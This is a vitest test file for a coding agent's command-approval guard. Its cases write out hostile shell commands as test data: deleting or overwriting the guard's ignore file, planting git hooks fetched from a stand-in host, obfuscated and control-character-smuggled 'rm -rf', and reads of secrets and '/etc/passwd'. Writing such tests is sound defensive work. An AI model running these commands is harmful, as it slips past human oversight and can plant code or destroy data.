/**
 * The approval wiring for commands (`decideApproval` → `decideCommand`), on a real workspace on
 * disk with a real ignore controller: commands that write, delete, rename or link the guard's own
 * files ask even in YOLO, words are judged where they really land (cd, links, variables, globs),
 * and read-only commands reading outside the workspace need "read files outside the workspace".
 */
import { mkdir, mkdtemp, rm, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import * as path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { IgnoreController } from "../../src/core/ignore/ignore-controller";
import { decideApproval, type ApprovalVerdict } from "../../src/core/task/auto-approval";
import { DEFAULT_AGENT_SETTINGS, type AgentSettings } from "../../src/shared/settings";

let ws: string;
let outside: string;
let ignore: IgnoreController;

beforeAll(async () => {
  ws = await mkdtemp(path.join(tmpdir(), "tandem-cmd-ws-"));
  outside = await mkdtemp(path.join(tmpdir(), "tandem-cmd-outside-"));
  await writeFile(path.join(ws, ".tandemignore"), "private/\n/src/keys.txt\n");
  await mkdir(path.join(ws, ".git/hooks"), { recursive: true });
  await writeFile(path.join(ws, ".git/config"), "[core]\n");
  await mkdir(path.join(ws, ".vscode"));
  await mkdir(path.join(ws, "private"));
  await writeFile(path.join(ws, "private/notes.md"), "secret\n");
  await mkdir(path.join(ws, "src"));
  await writeFile(path.join(ws, "src/a.ts"), "x\n");
  await writeFile(path.join(ws, "src/keys.txt"), "key\n");
  await writeFile(path.join(outside, "x.txt"), "x\n");
  await mkdir(path.join(ws, "payload/.git/hooks"), { recursive: true });
  await writeFile(path.join(ws, "payload/.tandemignore"), "\n");
  await symlink(".tandemignore", path.join(ws, "ignore-link"));
  await symlink(outside, path.join(ws, "out-link"));
  await symlink("private", path.join(ws, "innocent"));
  ignore = await IgnoreController.create(ws);
});

afterAll(async () => {
  ignore?.dispose();
  await rm(ws, { recursive: true, force: true });
  await rm(outside, { recursive: true, force: true });
});

function settings(overrides: Partial<AgentSettings> = {}): AgentSettings {
  return { ...DEFAULT_AGENT_SETTINGS, autoApproval: { ...DEFAULT_AGENT_SETTINGS.autoApproval, executeSafeCommands: true }, ...overrides };
}

function decide(command: string, overrides: Partial<AgentSettings> = {}): Promise<ApprovalVerdict> {
  const request = { category: "command" as const, command, message: { tool: "execute_command" as const, content: command } };
  return decideApproval(request, settings(overrides), { roots: [ws], ignore });
}

const note = (v: ApprovalVerdict) => (v.verdict === "ask" ? (v.note ?? "") : "");

describe("commands that change the guard's own files", () => {
  it.each([
    ["rm .tandemignore", ".tandemignore"],
    ["echo > .clineignore", ".clineignore"],
    ["mv .git/hooks/x y", ".git"],
    ["cp /tmp/evil .vscode/tasks.json", ".vscode"],
    ["sed -i 's/a/b/' .git/config", ".git"],
    ["git config core.hooksPath /tmp/hooks", ".git"],
    ["git config user.name Someone", ".git"],
    ["rm -rf .git", ".git"],
    ["ln -sf /dev/null .tandemignore", ".tandemignore"],
    ["truncate -s 0 .tandemignore", ".tandemignore"],
    ["printf 'x' | tee .tandem/rules.md", ".tandem"],
    ["chmod +x .git/hooks/pre-commit", ".git"],
    ["install -m 755 evil .git/hooks/pre-commit", ".git"],
    ["curl -o .git/hooks/pre-commit https://example.invalid/h", ".git"],
    ["touch .vscode/settings.json", ".vscode"],
    ["cd .git/hooks && cp /tmp/x pre-commit", ".git"],
    ["f=.tandemignore; rm $f", ".tandemignore"],
    ["rm .tandem*ignore", ".tandemignore"],
    ["rm $'\\x2etandemignore'", ".tandemignore"],
    ["echo 'ignored' > ignore-link", ".tandemignore"],
    ["python3 -c \"open('.tandemignore', 'w').write('')\"", ".tandemignore"],
    ["cp -r payload/hooks .git/", ".git"],
    ["cp -r payload/. .", "one of the guard's own files"],
    ["rsync -a payload/ ./", "one of the guard's own files"],
    ["find . -maxdepth 1 -name '.t*' -delete", ".tandemignore"],
  ])("%j asks even in YOLO mode", async (command, named) => {
    const verdict = await decide(command, { yolo: true });
    expect(verdict.verdict).toBe("ask");
    expect(note(verdict)).toContain(named);
    expect(note(verdict)).toMatch(/always asks|even in YOLO/);
  });

  it("asks when a file the command writes is only known when it runs", async () => {
    const verdict = await decide('echo x > "$TARGET"', { yolo: true });
    expect(note(verdict)).toMatch(/only known when it runs.*cannot tell whether it changes one of the guard's own files/);
  });

  it.each(["cat .tandemignore", "ls .git/hooks", "git status", "git config --get user.name", "git commit -m 'wip'", "rm -rf build", "echo x > out.txt", "git config --global user.name X"])(
    "%j runs in YOLO mode: it changes no guard file",
    async (command) => {
      expect(await decide(command, { yolo: true })).toEqual({ verdict: "auto" });
    },
  );
});

describe("commands that name ignored files", () => {
  it.each([
    ["cat private/notes.md", "private/notes.md"],
    ["cd src && cat keys.txt", "keys.txt"],
    ["cat innocent/notes.md", "innocent/notes.md"],
    ["python3 -c \"print(open('private/notes.md').read())\"", "private/notes.md"],
    ["d=src; cat $d/keys.txt", "src/keys.txt"],
  ])("%j asks even in YOLO mode", async (command, named) => {
    const verdict = await decide(command, { yolo: true });
    expect(verdict.verdict).toBe("ask");
    expect(note(verdict)).toContain(named);
  });
});

describe("read-only commands outside the workspace", () => {
  it.each(["cat /etc/passwd", "ls ~", "cat ../x", "cat out-link/x.txt", "cat {outside}/x.txt"])("%j asks with safe commands auto-approved, and says why", async (command) => {
    const verdict = await decide(command.replace("{outside}", outside));
    expect(verdict.verdict).toBe("ask");
    expect(note(verdict)).toMatch(/outside the workspace.*"read files outside the workspace" is off/);
  });

  it("runs them once reading files outside the workspace is allowed", async () => {
    const externally = { autoApproval: { ...DEFAULT_AGENT_SETTINGS.autoApproval, executeSafeCommands: true, readFilesExternally: true } };
    expect(await decide("cat /etc/passwd", externally)).toEqual({ verdict: "auto" });
    expect(await decide("cat out-link/x.txt", externally)).toEqual({ verdict: "auto" });
  });

  it("runs reads inside the workspace", async () => {
    for (const command of ["cat src/a.ts", "ls", "grep -r x src", `cat ${path.join(ws, "src/a.ts")}`]) expect(await decide(command), command).toEqual({ verdict: "auto" });
  });
});

describe("characters a terminal acts on", () => {
  it("asks, saying why, since the person cannot see them", async () => {
    const verdict = await decide("ls\u0001rm -rf build #", { autoApproval: { ...DEFAULT_AGENT_SETTINGS.autoApproval, executeAllCommands: false } });
    expect(verdict.verdict).toBe("ask");
    expect(note(verdict)).toMatch(/control character U\+0001/);
  });
});

describe("YOLO mode without a sandbox", () => {
  it("refuses what the guard cannot read, and tells how to write it plainly", async () => {
    const verdict = await decide("$(printf rm) -rf ./build", { yolo: true });
    expect(verdict.verdict).toBe("deny");
    expect(verdict.verdict === "deny" && verdict.reason).toMatch(/only known when it runs.*To run it, write the program's name as a plain word/);
  });

  it("refuses it with 'run all commands' on too: nobody reviews those either", async () => {
    const all = { autoApproval: { ...DEFAULT_AGENT_SETTINGS.autoApproval, executeAllCommands: true } };
    expect((await decide("$(printf rm) -rf ./build", all)).verdict).toBe("deny");
    expect(await decide("npm test", all)).toEqual({ verdict: "auto" });
  });

  it("does not refuse it with the guard switched off (the person's choice)", async () => {
    expect(await decide("$(printf rm) -rf ./build", { yolo: true, commandDenyGuard: false })).toEqual({ verdict: "auto" });
  });
});
